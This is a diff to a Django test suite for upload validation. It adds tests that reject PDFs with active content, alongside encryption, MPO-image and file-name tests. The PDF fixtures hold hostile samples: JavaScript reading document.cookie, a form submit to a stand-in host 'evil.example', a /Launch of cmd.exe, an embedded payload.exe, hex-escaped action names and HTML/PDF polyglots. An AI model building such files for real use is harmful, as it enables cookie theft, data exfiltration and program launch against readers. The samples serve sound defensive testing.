@@ -8,6 +8,8 @@ from django import forms
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image, PngImagePlugin
+from pypdf import PdfWriter
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
 
 from modules.uploads import (
     ReferenceFileField,
@@ -51,6 +53,44 @@ def pdf_bytes() -> bytes:
     buffer = BytesIO()
     Image.new("RGB", (8, 8), "white").save(buffer, "PDF")
     return buffer.getvalue()
+
+
+def pdf_with(change) -> bytes:
+    """A one-page PDF written by pypdf after change(writer) has added something to it."""
+    writer = PdfWriter()
+    writer.add_blank_page(200, 200)
+    change(writer)
+    buffer = BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def action(kind: str, **entries) -> DictionaryObject:
+    return DictionaryObject(
+        {NameObject("/S"): NameObject(kind), **{NameObject(f"/{k}"): v for k, v in entries.items()}}
+    )
+
+
+def set_open_action(value):
+    def change(writer):
+        writer._root_object[NameObject("/OpenAction")] = value
+
+    return change
+
+
+def document_javascript(writer):
+    script = writer._add_object(action("/JavaScript", JS=TextStringObject("app.alert(document.cookie)")))
+    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), script])})
+    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
+
+
+def page_automatic_action(writer):
+    opening = action("/JavaScript", JS=TextStringObject("this.submitForm('https://evil.example')"))
+    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): opening})
+
+
+def embedded_file(writer):
+    writer.add_attachment("payload.exe", elf_executable())
 
 
 def elf_executable() -> bytes:
@@ -138,6 +178,99 @@ def test_html_renamed_pdf_is_refused():
     error = rejection(verify_reference_file, upload("terms.pdf", HTML, "application/pdf"))
 
     assert "an HTML page (text/html), not a PDF" in error.messages[0]
+
+
+ACTIVE_PDFS = {
+    "open action running JavaScript": (
+        pdf_with(set_open_action(action("/JavaScript", JS=TextStringObject("app.alert(1)")))),
+        ["JavaScript (/JS)", "JavaScript (/JavaScript)", "an action run on opening (/OpenAction)"],
+    ),
+    "document-level JavaScript": (
+        pdf_with(document_javascript),
+        ["JavaScript (/JavaScript)", "JavaScript (/JS)"],
+    ),
+    "launch action": (
+        pdf_with(set_open_action(action("/Launch", F=TextStringObject("cmd.exe")))),
+        ["a program launch (/Launch)", "an action run on opening (/OpenAction)"],
+    ),
+    "page automatic action": (
+        pdf_with(page_automatic_action),
+        ["automatic actions (/AA)", "JavaScript (/JS)", "JavaScript (/JavaScript)"],
+    ),
+    "embedded file": (
+        pdf_with(embedded_file),
+        ["embedded files (/EmbeddedFiles)", "an embedded file (/EmbeddedFile)"],
+    ),
+    # Names may be written with #xx escapes; "/J#61vaScript" is "/JavaScript" to a PDF reader.
+    "hex-escaped action name": (
+        pdf_with(lambda writer: None).replace(
+            b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"
+        ),
+        ["JavaScript (/JS)", "JavaScript (/JavaScript)", "an action run on opening (/OpenAction)"],
+    ),
+    "PDF/HTML polyglot": (
+        pdf_bytes() + b"<html><body><script>fetch('/admin/')</script></body></html>",
+        ["HTML markup (a PDF/HTML polyglot)"],
+    ),
+    "HTML hidden in a PDF comment": (
+        pdf_bytes().replace(b"\n", b"\n%<!DOCTYPE html><script>alert(1)</script>\n", 1),
+        ["HTML markup (a PDF/HTML polyglot)"],
+    ),
+}
+
+
+@pytest.mark.parametrize("name", ACTIVE_PDFS)
+def test_pdf_with_active_content_is_refused_naming_what_was_found(name):
+    content, expected = ACTIVE_PDFS[name]
+
+    error = rejection(verify_reference_file, upload("study.pdf", content, "application/pdf"))
+
+    assert error.code == "pdf_active_content"
+    message = error.messages[0]
+    assert message.startswith("The PDF contains active content: ")
+    for finding in expected:
+        assert finding in message
+    assert "print or export it to a new PDF without them" in message
+
+
+def test_pdf_with_links_and_an_open_at_page_destination_is_accepted():
+    def links_and_destination(writer):
+        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
+            [writer.pages[0].indirect_reference, NameObject("/Fit")]
+        )
+        writer.add_uri(0, "https://doi.org/10.1056/NEJMoa2500001", [0, 0, 100, 20])
+        writer.pages[0][NameObject("/Rotate")] = NumberObject(0)
+
+    content = pdf_with(links_and_destination)
+
+    assert verify_reference_file(upload("trial.pdf", content)).read() == content
+
+
+@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-128"])
+def test_password_protected_pdf_is_refused_because_it_cannot_be_checked(algorithm):
+    content = pdf_with(lambda writer: writer.encrypt("secret", algorithm="RC4-128"))
+    if algorithm == "AES-128":
+        # pypdf writes AES only with the optional cryptography package; a reader sees the dictionary.
+        content = content.replace(
+            b"/V 2\n/R 3",
+            b"/V 4\n/R 4 /CF << /StdCF << /CFM /AESV2 /Length 16 >> >> /StmF /StdCF /StrF /StdCF",
+        )
+        assert b"/AESV2" in content
+
+    error = rejection(verify_reference_file, upload("locked.pdf", content))
+
+    assert error.code == "pdf_encrypted"
+    assert error.messages == [
+        "The PDF is encrypted or password-protected, so it cannot be checked. "
+        "Upload a copy without a password."
+    ]
+
+
+def test_pdf_that_cannot_be_parsed_is_refused():
+    error = rejection(verify_reference_file, upload("broken.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 4))
+
+    assert error.code == "pdf_corrupt"
+    assert "The PDF is damaged and cannot be read" in error.messages[0]
 
 
 def test_empty_reference_is_refused():
@@ -278,6 +411,23 @@ def test_valid_image_is_accepted_and_reencoded_in_its_own_format(image_format, e
     output = decoded(result)
     assert output.format == image_format
     assert output.size == (40, 30)
+
+
+def test_camera_mpo_is_accepted_as_its_first_jpeg_frame():
+    left, right = Image.new("RGB", (40, 30), "red"), Image.new("RGB", (40, 30), "blue")
+    buffer = BytesIO()
+    left.save(buffer, "MPO", save_all=True, append_images=[right])
+    assert Image.open(BytesIO(buffer.getvalue())).format == "MPO"
+
+    result = verify_image(upload("DSCF0001.JPG", buffer.getvalue()))
+
+    assert result.name == "DSCF0001.jpg"
+    output = decoded(result)
+    assert output.format == "JPEG"
+    assert getattr(output, "n_frames", 1) == 1
+    assert output.size == (40, 30)
+    red, green, blue = output.getpixel((20, 15))
+    assert red > 200 and blue < 60
 
 
 def test_name_takes_the_extension_of_the_real_type():
@@ -435,6 +585,19 @@ def test_form_reports_the_rejection_on_the_field():
         "The file is an HTML page (text/html), not a PNG, JPEG, WebP or GIF image. "
         "Upload the visual in one of those formats."
     ]
+
+
+@pytest.mark.parametrize(
+    ("field_class", "content", "extension"),
+    [(ReferenceFileFormField, pdf_bytes(), "pdf"), (VisualImageFormField, image_bytes("PNG"), "png")],
+)
+def test_a_250_character_file_name_is_shortened_not_refused(field_class, content, extension):
+    long_name = "Supplementary appendix " + "x" * 223 + ".pdf"
+    assert len(long_name) == 250
+
+    cleaned = field_class(max_length=100).clean(upload(long_name, content))
+
+    assert cleaned.name == f"Supplementary_appendix_{'x' * 57}.{extension}"
 
 
 def test_form_field_widgets_advertise_accepted_types():
